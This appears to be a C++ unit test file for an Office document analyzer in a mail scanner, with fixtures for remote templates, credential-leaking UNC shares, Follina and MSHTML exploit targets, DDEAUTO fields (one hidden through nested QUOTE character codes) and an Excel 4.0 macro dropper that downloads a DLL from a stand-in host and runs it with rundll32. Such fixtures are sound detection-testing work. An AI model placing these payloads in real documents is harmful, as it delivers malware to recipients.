// ooxml on package members built as the archive extractor pushes them (origin archive_member,
// file name = member path): remote templates, exploit-shaped and share targets, DDE fields, Excel
// 4.0 macro sheets, and the links that join the message.
#include <gtest/gtest.h>

#include "analyzers/office_test_support.h"

namespace vigie::analyzers {
namespace {

using office_test::evidence;
using office_test::find;
using office_test::RecordingContext;

std::string rels(std::string_view type, std::string_view target, bool external = true) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships "
         "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
         "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
         std::string(type) + "\" Target=\"" + std::string(target) + "\"" +
         (external ? " TargetMode=\"External\"" : "") + "/></Relationships>";
}

TEST(OoxmlTest, RemoteTemplate) {
  RecordingContext context;
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/_rels/settings.xml.rels",
                                     rels("attachedTemplate", "http://office-templates.example.com/invoice.dotm"));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_REMOTE_TEMPLATE");
  EXPECT_DOUBLE_EQ(findings[0].score, 12.0);
  EXPECT_EQ(findings[0].attack, (std::vector<std::string>{"T1221"}));
  EXPECT_EQ(evidence(findings[0], "target"), "http://office-templates.example.com/invoice.dotm");
  EXPECT_EQ(evidence(findings[0], "member"), "word/_rels/settings.xml.rels");
  EXPECT_EQ(findings[0].evidence[0].object, member.id);
  ASSERT_EQ(context.urls.size(), 1u);
  EXPECT_EQ(context.urls[0].host_ascii(), "office-templates.example.com");
  EXPECT_EQ(context.urls[0].source, UrlSource::kSrc);
}

TEST(OoxmlTest, TemplateOnAShareLeaksCredentials) {
  RecordingContext context;
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/_rels/settings.xml.rels",
                                     rels("attachedTemplate", "\\\\198.51.100.7\\share\\t.dotx"));
  const auto findings = context.run("ooxml", member);
  const Finding* unc = find(findings, "OFFICE_UNC_RESOURCE");
  ASSERT_NE(unc, nullptr);
  EXPECT_EQ(unc->group, "client_exploit");
  EXPECT_EQ(evidence(*unc, "target"), "\\\\198.51.100.7\\share\\t.dotx");
  const Finding* remote = find(findings, "OFFICE_REMOTE_TEMPLATE");
  ASSERT_NE(remote, nullptr);
  EXPECT_DOUBLE_EQ(remote->score, 6.0);  // half: the share is the main harm
  ASSERT_EQ(context.urls.size(), 1u);
  EXPECT_EQ(context.urls[0].scheme(), "file");
  EXPECT_EQ(context.urls[0].host_ascii(), "198.51.100.7");
}

TEST(OoxmlTest, WebDavTemplate) {
  RecordingContext context;
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/_rels/settings.xml.rels",
                                     rels("attachedTemplate", "\\\\files.example.net@SSL\\DavWWWRoot\\t.dotm"));
  EXPECT_NE(find(context.run("ooxml", member), "OFFICE_UNC_RESOURCE"), nullptr);
}

TEST(OoxmlTest, LocalTemplateIsNormal) {
  RecordingContext context;
  const Object& member =
      context.add(ObjectOrigin::kArchiveMember, "word/_rels/settings.xml.rels",
                  rels("attachedTemplate", "file:///C:\\Users\\marie\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"));
  EXPECT_TRUE(context.run("ooxml", member).empty());
}

TEST(OoxmlTest, FollinaShapes) {
  RecordingContext context;
  const Object& follina = context.add(ObjectOrigin::kArchiveMember, "word/_rels/document.xml.rels",
                                      rels("oleObject", "http://203.0.113.9/exploit.html!"));
  const auto findings = context.run("ooxml", follina);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_EXPLOIT_TARGET");
  EXPECT_EQ(evidence(findings[0], "cve"), "CVE-2022-30190");
  EXPECT_DOUBLE_EQ(findings[0].score, 15.0);

  const Object& msdt = context.add(ObjectOrigin::kArchiveMember, "word/_rels/document.xml.rels",
                                   rels("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force /param &quot;x&quot;"));
  const auto direct = context.run("ooxml", msdt);
  ASSERT_EQ(direct.size(), 1u);
  EXPECT_EQ(evidence(direct[0], "target"), "ms-msdt:/id PCWDiagnostic /skip force /param \"x\"");

  const Object& mhtml = context.add(ObjectOrigin::kArchiveMember, "word/_rels/document.xml.rels",
                                    rels("oleObject", "mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html"));
  EXPECT_EQ(evidence(context.run("ooxml", mhtml).at(0), "cve"), "CVE-2021-40444");
}

TEST(OoxmlTest, ExternalObjectAndHyperlinks) {
  RecordingContext context;
  const Object& frame = context.add(ObjectOrigin::kArchiveMember, "word/_rels/webSettings.xml.rels",
                                    rels("frame", "https://203.0.113.9/frame.docx"));
  const auto findings = context.run("ooxml", frame);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_EXTERNAL_OBJECT");
  EXPECT_EQ(evidence(findings[0], "relationship"), "frame");

  const Object& link = context.add(ObjectOrigin::kArchiveMember, "word/_rels/document.xml.rels",
                                   rels("hyperlink", "https://login.example-portal.net/owa"));
  EXPECT_TRUE(context.run("ooxml", link).empty());  // the links analyzers judge it
  ASSERT_EQ(context.urls.size(), 2u);
  EXPECT_EQ(context.urls[1].source, UrlSource::kHref);

  const Object& internal = context.add(ObjectOrigin::kArchiveMember, "word/_rels/document.xml.rels",
                                       rels("attachedTemplate", "template.dotx", false));
  EXPECT_TRUE(context.run("ooxml", internal).empty());
  EXPECT_EQ(context.urls.size(), 2u);
}

std::string document(std::string_view body) {
  return "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
         "<w:body>" + std::string(body) + "</w:body></w:document>";
}

TEST(OoxmlTest, DdeAutoSplitAcrossRuns) {
  RecordingContext context;
  const Object& member = context.add(
      ObjectOrigin::kArchiveMember, "word/document.xml",
      document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDE"
               "</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""
               "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_DDE_FIELD");
  EXPECT_DOUBLE_EQ(findings[0].score, 12.0);
  EXPECT_EQ(evidence(findings[0], "field"), "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
  EXPECT_EQ(evidence(findings[0], "runs"), "when the document opens");
}

// { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc" }: "DDEAUTO" is
// nowhere in the file, Word builds it from character codes before running the outer field.
TEST(OoxmlTest, DdeAssembledByANestedQuoteField) {
  const auto run = [](std::string_view before, std::string_view after) {
    return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + std::string(before) +
           "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> QUOTE  68 68 69 65 85 84 79 "
           "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>"
           "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>" + std::string(after) +
           "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  };
  RecordingContext context;
  const Object& member = context.add(
      ObjectOrigin::kArchiveMember, "word/document.xml",
      document(run("", "<w:r><w:instrText xml:space=\"preserve\"> c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>")));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_DDE_FIELD");
  EXPECT_DOUBLE_EQ(findings[0].score, 12.0);
  EXPECT_EQ(evidence(findings[0], "field"), "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
  EXPECT_EQ(evidence(findings[0], "obfuscation"), "the command is assembled by nested QUOTE fields from character codes");

  // QUOTE with ordinary text inside an ordinary field stays quiet.
  RecordingContext quiet;
  const Object& letter = quiet.add(
      ObjectOrigin::kArchiveMember, "word/document.xml",
      document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>"
               "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> QUOTE \"Madame\" </w:instrText></w:r>"
               "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
  EXPECT_TRUE(quiet.run("ooxml", letter).empty());
}

// Fields nested past the depth read are skipped whole, without losing track of the fields around.
TEST(OoxmlTest, DeeplyNestedFieldsAreBounded) {
  std::string xml = "<w:p>";
  for (int i = 0; i < 40; ++i) xml += "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 65 </w:instrText></w:r>";
  for (int i = 0; i < 40; ++i) xml += "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  xml += "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE cmd \"/c calc\"</w:instrText></w:r>"
         "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  RecordingContext context;
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/document.xml", document(xml));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(evidence(findings[0], "field"), "DDE cmd \"/c calc\"");
}

TEST(OoxmlTest, DdeInAFieldSimpleCountsLess) {
  RecordingContext context;
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/footer1.xml",
                                     document("<w:fldSimple w:instr=\"DDE &quot;cmd&quot; &quot;/c calc&quot;\"/>"));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_DOUBLE_EQ(findings[0].score, 9.0);
  EXPECT_EQ(evidence(findings[0], "field"), "DDE \"cmd\" \"/c calc\"");
}

TEST(OoxmlTest, OrdinaryFieldsAreQuiet) {
  RecordingContext context;
  const Object& member =
      context.add(ObjectOrigin::kArchiveMember, "word/document.xml",
                  document("<w:fldSimple w:instr=\" PAGE \"/><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                           "<w:r><w:instrText> HYPERLINK \"https://example.org\" </w:instrText></w:r>"
                           "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"));
  EXPECT_TRUE(context.run("ooxml", member).empty());
}

TEST(OoxmlTest, IncludePictureFromAShare) {
  RecordingContext context;
  const Object& member = context.add(
      ObjectOrigin::kArchiveMember, "word/document.xml",
      document("<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;\\\\\\\\203.0.113.9\\\\pix\\\\a.png&quot; \\d\"/>"));
  const auto findings = context.run("ooxml", member);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].id, "OFFICE_UNC_RESOURCE");
  EXPECT_EQ(evidence(findings[0], "target"), "\\\\203.0.113.9\\pix\\a.png");
  EXPECT_EQ(evidence(findings[0], "reference"), "field includepicture");
}

TEST(OoxmlTest, ExcelDdeLinkAndMacroSheets) {
  RecordingContext context;
  const Object& link = context.add(ObjectOrigin::kArchiveMember, "xl/externalLinks/externalLink1.xml",
                                   "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
  const auto dde = context.run("ooxml", link);
  ASSERT_EQ(dde.size(), 1u);
  EXPECT_EQ(evidence(dde[0], "field"), "cmd|/c calc");

  const Object& sheet = context.add(ObjectOrigin::kArchiveMember, "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>");
  const auto macro = context.run("ooxml", sheet);
  ASSERT_EQ(macro.size(), 1u);
  EXPECT_EQ(macro[0].id, "EXCEL4_MACRO_SHEET");
  EXPECT_EQ(evidence(macro[0], "calls"), "<no calls>");  // an empty sheet calls nothing

  // The formulas of a dropper: what they call is named, and the download address joins the links.
  const Object& dropper = context.add(
      ObjectOrigin::kArchiveMember, "xl/macrosheets/sheet2.xml",
      "<xm:macrosheet><sheetData><row r=\"1\"><c r=\"A1\"><f>CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,"
      "&quot;JJCCJJ&quot;,0,&quot;http://203.0.113.50/p.dll&quot;,&quot;c:\\users\\public\\p.dll&quot;,0,0)</f></c></row>"
      "<row r=\"2\"><c r=\"A2\"><f>EXEC(&quot;rundll32.exe c:\\users\\public\\p.dll,DllRegisterServer&quot;)</f></c></row>"
      "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>");
  const auto drop = context.run("ooxml", dropper);
  ASSERT_EQ(drop.size(), 1u);
  EXPECT_EQ(evidence(drop[0], "calls"), "EXEC, CALL, URLDOWNLOADTOFILE");
  EXPECT_EQ(evidence(drop[0], "formula").substr(0, 16), "CALL(\"urlmon\",\"U");
  ASSERT_FALSE(context.urls.empty());
  EXPECT_EQ(context.urls.back().host_ascii(), "203.0.113.50");

  const Object& workbook = context.add(
      ObjectOrigin::kArchiveMember, "xl/workbook.xml",
      "<workbook><sheets><sheet name=\"M\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets><definedNames>"
      "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">M!$A$1</definedName></definedNames></workbook>");
  const auto auto_open = context.run("ooxml", workbook);
  ASSERT_EQ(auto_open.size(), 1u);
  EXPECT_EQ(auto_open[0].id, "EXCEL4_AUTO_OPEN");
  EXPECT_EQ(evidence(auto_open[0], "cell"), "M!$A$1");
}

TEST(OoxmlTest, OnlyPackageMembersAreRead) {
  RecordingContext context;
  for (const auto& [origin, name, accepted] :
       std::vector<std::tuple<ObjectOrigin, std::string, bool>>{{ObjectOrigin::kMimePart, "document.xml.rels", false},
                                                                {ObjectOrigin::kArchiveMember, "word/media/a.png", false},
                                                                {ObjectOrigin::kArchiveMember, "/word/document.xml", true},
                                                                {ObjectOrigin::kArchiveMember, "_rels/.rels", true}}) {
    const Object& o = context.add(origin, name, "<x/>");
    for (const ObjectAnalyzerDescriptor* d : object_registry()) {
      if (d->name == "ooxml") {
        EXPECT_EQ(d->accepts(o), accepted) << name;
      }
    }
  }
}

TEST(OoxmlTest, XmlBeyondTheLimitIsReportedAndCut) {
  Limits limits;
  limits.max_office_xml_bytes = 100;
  RecordingContext context(limits);
  const Object& member = context.add(ObjectOrigin::kArchiveMember, "word/_rels/settings.xml.rels",
                                     rels("attachedTemplate", "http://office-templates.example.com/invoice.dotm"));
  EXPECT_TRUE(context.run("ooxml", member).empty());
  ASSERT_EQ(context.crossings.size(), 1u);
  EXPECT_EQ(context.crossings[0].limit, "max_office_xml_bytes");
}

}  // namespace
}  // namespace vigie::analyzers
